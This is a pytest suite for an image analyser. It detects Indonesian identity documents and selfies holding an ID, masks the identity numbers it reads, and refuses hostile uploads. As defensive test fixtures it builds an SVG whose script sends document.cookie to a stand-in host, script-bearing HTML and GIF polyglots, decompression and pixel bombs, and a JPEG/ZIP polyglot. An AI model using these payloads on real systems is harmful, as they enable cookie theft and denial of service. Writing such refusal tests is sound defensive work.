"""Image analysis: ID documents, selfies with ID, numbers read and masked, and hostile files refused.

The images are drawn by tests/imagegen.py (DejaVu fonts from Debian's fonts-dejavu-core and
fonts-dejavu-extra, scikit-image's astronaut as the face) and read by the real RapidOCR engine:
about a second each, so the set is small. bench/images_bench.py measures the same code on 240.
"""

import io
import json
import re
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from PIL import Image, ImageFile

from rules.images.analysis import analyse_image
from rules.images.documents import fix_digit_runs, read_document
from rules.images.safe import ImageRefused, clean_copy, open_image
from rules import mask
from imagegen import make_sample

ROOT = Path(__file__).resolve().parents[1]
FIELDS = {"document", "face", "selfie_with_id", "identifiers", "text_read", "reasons", "sha256", "width", "height",
          "id_regions"}
# (kind, n): n % 3 is the photo's condition (0 clean, 1 mild, 2 hard)
DOCUMENTS = [("ktp", 0), ("ktp", 1), ("ktp", 2), ("kk", 0), ("npwp", 0), ("npwp", 1), ("selfie", 0), ("selfie", 1)]
NEGATIVES = [("news", 0), ("meme", 0), ("product", 0), ("face", 0), ("bank_card", 0), ("member_card", None)]


FONTS = Path("/usr/share/fonts/truetype/dejavu")


@pytest.fixture(scope="module")
def fonts():
    """The generator draws with Debian's DejaVu fonts (scripts/test installs them as root)."""
    if not all((FONTS / f"{name}.ttf").exists() for name in ("DejaVuSans-Bold", "DejaVuSansCondensed-Bold")):
        pytest.skip("fonts-dejavu-core and fonts-dejavu-extra are not installed")


def _member_card_with_nik():
    """The first generated membership card that prints an NIK row (a third of them do)."""
    return next(s for s in (make_sample("member_card", n) for n in range(20)) if "nik" in s.truth)


@pytest.fixture(scope="module")
def analysed(fonts):
    """{(kind, n): (sample, analysis)} for every image above, each analysed once."""
    out = {}
    for kind, n in DOCUMENTS + NEGATIVES:
        sample = _member_card_with_nik() if n is None else make_sample(kind, n)
        out[kind, n] = sample, analyse_image(sample.data)
    return out


@pytest.mark.parametrize("key", DOCUMENTS, ids=lambda k: f"{k[0]}{k[1]}" if isinstance(k, tuple) else str(k))
def test_document_type_is_recognised(analysed, key):
    sample, analysis = analysed[key]
    assert analysis.document == sample.document, analysis.reasons


@pytest.mark.parametrize("key", NEGATIVES, ids=lambda k: k[0] if isinstance(k, tuple) else str(k))
def test_negatives_are_no_document_and_no_selfie(analysed, key):
    _, analysis = analysed[key]
    assert analysis.document == "none", analysis.reasons
    assert not analysis.selfie_with_id


def test_ktp_nik_is_read_valid_and_only_masked(analysed):
    sample, analysis = analysed["ktp", 0]
    nik = sample.truth["nik"]
    assert {"kind": "nik", "masked": mask("nik", nik), "valid": True} in analysis.identifiers
    assert mask("nik", nik) in analysis.text_read
    assert "photo: KTP, NIK valid" in analysis.reasons[0]
    assert analysis.id_regions and all(0 <= x0 < x1 <= analysis.width and 0 <= y0 < y1 <= analysis.height
                                       for x0, y0, x1, y1 in analysis.id_regions)


def test_kk_and_npwp_numbers_go_through_the_rule_validators(analysed):
    kk_sample, kk = analysed["kk", 0]
    assert {"kind": "kk", "masked": mask("kk", kk_sample.truth["kk_no"]), "valid": True} in kk.identifiers
    npwp_sample, npwp = analysed["npwp", 0]
    assert {"kind": "npwp", "masked": mask("npwp", npwp_sample.truth["npwp"]), "valid": True} in npwp.identifiers


def test_no_full_identity_number_anywhere_in_the_output(analysed):
    for (kind, n), (sample, analysis) in analysed.items():
        shown = json.dumps(analysis.to_dict(), ensure_ascii=False)
        assert not re.search(r"\d{16}", shown), (kind, n)
        numbers = [sample.truth.get("nik"), sample.truth.get("kk_no"), *sample.truth.get("niks", [])]
        for number in filter(None, numbers):
            assert number not in shown and number not in re.sub(r"\D", "", shown), (kind, n)
        if kind == "bank_card":
            assert sample.truth["card_no"] not in re.sub(r"\D", "", shown)


def test_a_selfie_with_a_ktp_is_a_face_holding_an_id(analysed):
    for n in (0, 1):
        _, analysis = analysed["selfie", n]
        assert analysis.face and analysis.selfie_with_id and analysis.document == "ktp", analysis.reasons
        assert "selfie with ID" in analysis.reasons[0]


def test_a_plain_face_and_a_bank_card_are_not_selfies_with_id(analysed):
    _, face = analysed["face", 0]
    assert face.face and not face.selfie_with_id and face.document == "none"
    _, card = analysed["bank_card", 0]
    assert not card.face and not card.selfie_with_id and card.document == "none"
    assert not any(i["kind"] == "nik" and i["valid"] for i in card.identifiers)  # a card number is no NIK


def test_a_membership_card_with_an_nik_row_is_not_a_ktp(analysed):
    sample, analysis = analysed["member_card", None]
    assert analysis.document == "none" and not analysis.selfie_with_id
    assert analysis.reasons[0].startswith("no identity document")


def test_result_fields_and_image_facts(analysed):
    sample, analysis = analysed["ktp", 0]
    result = analysis.to_dict()
    assert set(result) == FIELDS
    assert (result["width"], result["height"]) == Image.open(io.BytesIO(sample.data)).size
    import hashlib

    assert result["sha256"] == hashlib.sha256(sample.data).hexdigest()
    assert all(set(i) == {"kind", "masked", "valid"} for i in result["identifiers"])


# ---------------------------------------------------------------- the classifier on text alone

def test_mentions_in_prose_are_not_a_document():
    news = ["Data bocor: akun di forum menjual NIK, nomor KTP, Kartu Keluarga dan NPWP warga, berisi kolom",
            "NIK 16 digit, tempat tanggal lahir, jenis kelamin, agama, status perkawinan dan pekerjaan milik",
            "jutaan penduduk di tingkat provinsi dan kabupaten/kota, kata Direktorat Jenderal Pajak."]
    assert read_document(news).document == "none"


def test_passport_and_sim_from_their_labels():
    passport = ["REPUBLIK INDONESIA", "PASPOR", "PASSPORT", "Kode Negara/Country Code", "IDN", "No. Paspor/Passport No.",
                "X1234567", "Nama Lengkap/Full Name", "BUDI SANTOSO", "Tgl. Pengeluaran/Date of Issue",
                "P<IDNSANTOSO<<BUDI<<<<<<<<<<<<<<<<<<<<<<<<<<"]
    assert read_document(passport).document == "passport"
    sim = ["SURAT IZIN MENGEMUDI", "DRIVING LICENSE", "1. Nama : BUDI SANTOSO", "2. Tempat & Tgl. Lahir : BOGOR",
           "5. Tinggi : 170 cm", "6. Pekerjaan : SWASTA", "Berlaku s/d : 12-08-2027"]
    assert read_document(sim).document == "sim"


def test_digit_lookalikes_are_fixed_only_inside_numbers():
    assert fix_digit_runs("NIK : 3l7lO14508920O07") == "NIK : 3171014508920007"
    assert fix_digit_runs("BUDI SANTOSO, No.3171") == "BUDI SANTOSO, No.3171"


# ---------------------------------------------------------------- hostile files

def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def huge_png(width: int, height: int) -> bytes:
    """A one-colour 1-bit PNG of width x height pixels, streamed so that the file stays small."""
    comp = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)
    idat = b"".join(comp.compress(row) for _ in range(height)) + comp.flush()
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b""))


def small(fmt: str, **save) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (320, 200), (200, 120, 40)).save(buf, fmt, **save)
    return buf.getvalue()


def text_bomb_png() -> bytes:
    """A valid small PNG with a zTXt chunk that inflates to 200 MB."""
    comp = zlib.compressobj(9)
    payload = b"".join(comp.compress(b"\0" * 1_000_000) for _ in range(200)) + comp.flush()
    png = small("PNG")
    return png[:33] + _png_chunk(b"zTXt", b"Comment\0\0" + payload) + png[33:]


HOSTILE = {
    "truncated jpeg": (lambda: small("JPEG")[:400], "truncated"),
    "truncated png": (lambda: small("PNG")[:300], "truncated"),
    "png 20000x20000": (lambda: huge_png(20000, 20000), "too_many_pixels"),
    "png text bomb": (text_bomb_png, "decompression_bomb"),
    "svg with a script": (lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                          b"<script>fetch('//x/'+document.cookie)</script></svg>", "not_an_image"),
    "html named .jpg": (lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>", "not_an_image"),
    "pdf named .jpg": (lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n", "not_an_image"),
    "zip named .png": (lambda: b"PK\x03\x04" + b"\0" * 40, "not_an_image"),
    "tiff": (lambda: small("TIFF"), "unsupported_type"),
    "bmp": (lambda: small("BMP"), "unsupported_type"),
    "png magic then garbage": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "corrupt"),
    "gif magic then javascript": (lambda: b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1)//", "corrupt"),
    "empty": (lambda: b"", "empty"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_with_their_reason(name):
    make, reason = HOSTILE[name]
    data = make()
    with pytest.raises(ImageRefused) as refused:
        analyse_image(data)
    assert refused.value.reason == reason
    with pytest.raises(ImageRefused):
        clean_copy(data)


def test_a_huge_png_is_refused_from_a_small_file_before_decoding():
    data = huge_png(20000, 20000)
    assert len(data) < 100_000
    with pytest.raises(ImageRefused, match="too_many_pixels"):
        open_image(data)


def test_pillows_bomb_warning_is_an_error_even_with_a_higher_cap():
    """10000 x 10000 is where Pillow only warns; here it refuses even if our own cap is lifted."""
    with pytest.raises(ImageRefused) as refused:
        open_image(huge_png(10000, 10000), max_pixels=10**9)
    assert refused.value.reason == "too_many_pixels" and "decompression bomb" in refused.value.detail


def test_too_many_bytes_are_refused_unread():
    with pytest.raises(ImageRefused, match="too_large"):
        open_image(small("JPEG"), max_bytes=1000)


def test_a_truncated_file_is_refused_even_if_pillow_was_told_to_load_truncated_images():
    before = ImageFile.LOAD_TRUNCATED_IMAGES
    ImageFile.LOAD_TRUNCATED_IMAGES = True
    try:
        with pytest.raises(ImageRefused, match="truncated"):
            open_image(small("JPEG")[:400])
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = before


def test_a_type_the_bytes_do_not_say_is_a_mismatch():
    from rules.images import safe

    with pytest.raises(ImageRefused, match="type_mismatch"):
        safe._check_header(Image.open(io.BytesIO(small("GIF"))), "png", safe.MAX_PIXELS)


def test_the_type_comes_from_the_bytes_not_the_name(tmp_path):
    """A PNG called photo.jpg is a PNG: opened as one, and its clean copy is a PNG."""
    path = tmp_path / "photo.jpg"
    path.write_bytes(small("PNG"))
    assert open_image(path.read_bytes()).size == (320, 200)
    assert clean_copy(path.read_bytes()).startswith(b"\x89PNG")


def test_a_jpeg_zip_polyglot_is_re_encoded_without_its_payload_or_metadata():
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotated
    exif[0x8825] = {1: "S", 2: (6.0, 10.0, 0.0)}  # GPS
    polyglot = small("JPEG", exif=exif, comment=b"seller 081234567890") + b"PK\x03\x04" + b"\0" * 26 + b"evil.js"
    clean = clean_copy(polyglot)
    assert b"PK\x03\x04" not in clean and b"evil.js" not in clean and b"0812" not in clean
    back = Image.open(io.BytesIO(clean))
    assert back.format == "JPEG" and not dict(back.getexif())
    assert back.size == (200, 320)  # the orientation was applied to the pixels before it was dropped


# ---------------------------------------------------------------- the command

def _monitor(*args):
    return subprocess.run([sys.executable, "-m", "monitor", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=300)


def test_explain_image_prints_the_analysis_as_json(tmp_path, fonts):
    sample = make_sample("selfie", 0)
    path = tmp_path / "selfie.jpg"
    path.write_bytes(sample.data)
    result = _monitor("explain", "--image", str(path), "--json")
    assert result.returncode == 0, result.stderr
    shown = json.loads(result.stdout)
    assert set(shown) == FIELDS
    assert shown["document"] == "ktp" and shown["face"] and shown["selfie_with_id"]
    assert {"kind": "nik", "masked": mask("nik", sample.truth["nik"]), "valid": True} in shown["identifiers"]
    assert sample.truth["nik"] not in result.stdout


def test_explain_image_prints_a_readable_analysis_and_refuses_bad_files(tmp_path, fonts):
    path = tmp_path / "ktp.jpg"
    sample = make_sample("ktp", 0)
    path.write_bytes(sample.data)
    result = _monitor("explain", "--image", str(path))
    assert result.returncode == 0, result.stderr
    for line in ("document: ktp", "selfie with ID: no", f"nik       {mask('nik', sample.truth['nik'])}", "text read:",
                 "photo: KTP, NIK valid"):
        assert line in result.stdout
    assert sample.truth["nik"] not in result.stdout
    bad = tmp_path / "page.jpg"
    bad.write_bytes(b"<!DOCTYPE html><html><script>alert(1)</script></html>")
    refused = _monitor("explain", "--image", str(bad))
    assert refused.returncode == 1
    assert refused.stderr.strip() == f"{bad}: refused: not_an_image"
    assert "Traceback" not in refused.stderr


# ---------------------------------------------------------------- found by attacking it

@pytest.mark.parametrize("size", [(1, 2000), (2000, 1), (3, 5000), (40, 40000), (1, 40000), (10, 10)])
def test_slivers_are_refused_before_ocr(size):
    """A 92-byte 1 x 2000 PNG (a forum's divider) drove OCR to 23 GB: its short side is scaled up."""
    buf = io.BytesIO()
    Image.new("L", size, 255).save(buf, "PNG")
    with pytest.raises(ImageRefused) as refused:
        analyse_image(buf.getvalue())
    assert refused.value.reason == "bad_shape"


def test_a_jpeg_cut_after_its_header_is_refused():
    """libjpeg paints what is missing grey and Pillow keeps it; a whole JPEG ends its last scan with EOI."""
    whole = small("JPEG")
    cut = whole[: whole.rfind(b"\xff\xda") + 40]
    with pytest.raises(ImageRefused) as refused:
        open_image(cut)
    assert refused.value.reason == "truncated"


def test_a_16_bit_grey_scan_is_read_not_washed_out(fonts):
    sample = make_sample("ktp", 0)
    import numpy as np

    grey = np.asarray(Image.open(io.BytesIO(sample.data)).convert("L")).astype(np.uint16) * 257
    deep = Image.fromarray(grey)  # mode I;16
    buf = io.BytesIO()
    deep.save(buf, "PNG")
    assert Image.open(io.BytesIO(buf.getvalue())).mode.startswith("I")
    assert analyse_image(buf.getvalue()).document == "ktp"


def test_blank_forms_and_field_lists_are_not_documents():
    """Every Indonesian form has KTP's field labels; without a number of its own it is no KTP or KK."""
    blank_ktp = ["PROVINSI", "NIK :", "Nama :", "Tempat/Tgl Lahir :", "Jenis Kelamin :", "Gol. Darah :", "Alamat :",
                 "RT/RW :", "Kel/Desa :", "Kecamatan :", "Agama :", "Status Perkawinan :", "Pekerjaan :",
                 "Kewarganegaraan :", "Berlaku Hingga :"]
    assert read_document(blank_ktp).document == "none"
    listed = ["Data yang bocor:", "• NIK", "• Nama", "• Tempat/Tgl Lahir", "• Agama", "• Status Perkawinan", "• Pekerjaan"]
    assert read_document(listed).document == "none"
    blank_kk = ["KARTU KELUARGA", "No.", "Nama Kepala Keluarga :", "Desa/Kelurahan :", "Kabupaten/Kota :", "Kode Pos :"]
    assert read_document(blank_kk).document == "none"
    filled = blank_ktp[:1] + ["NIK : 3171014508920007"] + blank_ktp[2:]
    assert read_document(filled).document == "ktp"


def test_the_text_read_gives_no_number_back():
    """A NIK with one misread letter is no identifier but still the number; on a document every other digit
    is covered too, since a KTP's birth date and sex give back the masked middle of its NIK."""
    reading = read_document(["PROVINSI JAWA BARAT", "NIK : 3171014508920007", "Tempat/Tgl Lahir : BANDUNG, 05-08-1992",
                             "Jenis Kelamin : PEREMPUAN", "Agama : ISLAM", "Pekerjaan : KARYAWAN", "Berlaku Hingga : SEUMUR HIDUP"])
    assert reading.document == "ktp" and "3171********0007" in reading.masked_text
    assert "05-08-1992" not in reading.masked_text and "##-##-####" in reading.masked_text
    other = read_document(["Promo! hubungi 2105101A05900607 sekarang"])
    assert "2105101A05900607" not in other.masked_text and "################" in other.masked_text


def test_a_file_named_after_the_number_it_shows_is_masked(tmp_path, fonts):
    sample = make_sample("ktp", 0)
    path = tmp_path / f"NIK_{sample.truth['nik']}.jpg"
    path.write_bytes(sample.data)
    shown = _monitor("explain", "--image", str(path))
    assert shown.returncode == 0 and sample.truth["nik"] not in shown.stdout + shown.stderr
    path.write_bytes(b"GIF89a" + b"\0" * 20)
    refused = _monitor("explain", "--image", str(path))
    assert refused.returncode == 1 and sample.truth["nik"] not in refused.stderr and "refused" in refused.stderr
